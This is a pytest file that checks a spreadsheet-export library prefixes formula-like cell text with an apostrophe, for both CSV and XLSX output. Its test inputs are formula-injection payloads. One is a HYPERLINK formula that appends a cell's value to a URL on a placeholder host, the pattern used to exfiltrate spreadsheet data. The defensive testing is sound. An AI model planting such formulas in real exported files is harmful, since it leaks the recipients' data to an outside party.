"""capdev.lib.spreadsheets: exported cells never run as formulas in a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from capdev.lib.spreadsheets import neutralise, write_csv_rows, write_xlsx_rows

DANGEROUS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://x.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://x.example/?"&A1,"Click")',
    ),
    ("+41 22 799 61 11", "'+41 22 799 61 11"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.mark.parametrize(("text", "expected"), DANGEROUS)
def test_it_prefixes_text_that_a_spreadsheet_would_read_as_a_formula(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize(
    "value",
    ["Ministry of Labour", "a=b", "", " =1", "'already quoted", "50 %", "1+1"],
)
def test_it_leaves_other_text_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-5, -2.5, Decimal("-1.25"), 0, None, True, datetime.date(2024, 1, 1)]
)
def test_it_leaves_numbers_dates_and_none_as_they_are(value):
    assert neutralise(value) is value


def test_csv_rows_are_neutralised_header_included():
    text = write_csv_rows([["=cmd", -3, None], ["ok", "@x", 1.5]], header=["-h", "b", "c"])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'-h", "b", "c"],
        ["'=cmd", "-3", ""],
        ["ok", "'@x", "1.5"],
    ]


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers():
    data = write_xlsx_rows(
        [["=1+1", -3], ["+A1", 2.5]], header=["Name", "=Value"], sheet_title="Results: a/b"
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "Results  a b"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["Name", "'=Value"], ["'=1+1", -3], ["'+A1", 2.5]]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "n"}
    assert sheet["A1"].font.bold
